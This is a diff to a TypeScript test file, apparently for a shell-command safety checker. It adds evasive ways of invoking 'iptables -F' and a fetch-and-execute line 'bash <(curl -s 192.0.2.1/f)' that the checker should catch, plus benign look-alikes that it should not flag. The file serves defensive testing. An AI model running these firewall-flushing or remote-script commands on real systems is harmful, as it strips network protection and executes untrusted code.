@@ -94,6 +94,9 @@ const FLUSHING = [
   '$(which iptables) -F',
   '"$(command -v iptables)" -F',
   '"$BASH" -c "iptables -F"',
+  'I=$(which iptables); sudo $I -F',
+  'p=ls; f() { $p -F; }; p=iptables f',
+  'bash /dev/stdin <<< "iptables -F"',
 ];
 
 test.each(FLUSHING)('another-word: %j is read as what it runs', (text) => {
@@ -109,6 +112,7 @@ test.each<[string, string]>([
   ['enable -f ./x.so ip', 'unseen-script'],
   ['curl -s 192.0.2.1/f > f; sh f', 'unseen-script'],
   ['sort g > f; chmod +x f; sudo ./f', 'unseen-script'],
+  ['bash <(curl -s 192.0.2.1/f)', 'unseen-script'],
   ['chroot /mnt', 'unseen-script'],
   ['echo iptables -F | parallel', 'unseen-script'],
   ['setpriv --unheard-of iptables -F', 'unread-option'],
@@ -171,6 +175,8 @@ test.each([
   'python3 -c \'import subprocess\nfor ip in hosts: subprocess.run(["ping", ip])\'',
   "perl -ne 'print if /ip route/' f",
   'make -C src install',
+  'make ip route',
+  'IP=$(command -v ip); $IP link',
   'git commit -m "iptables rules"',
   'tar -xf ip.tar',
 ])('no-needless-question: %j', (text) => {
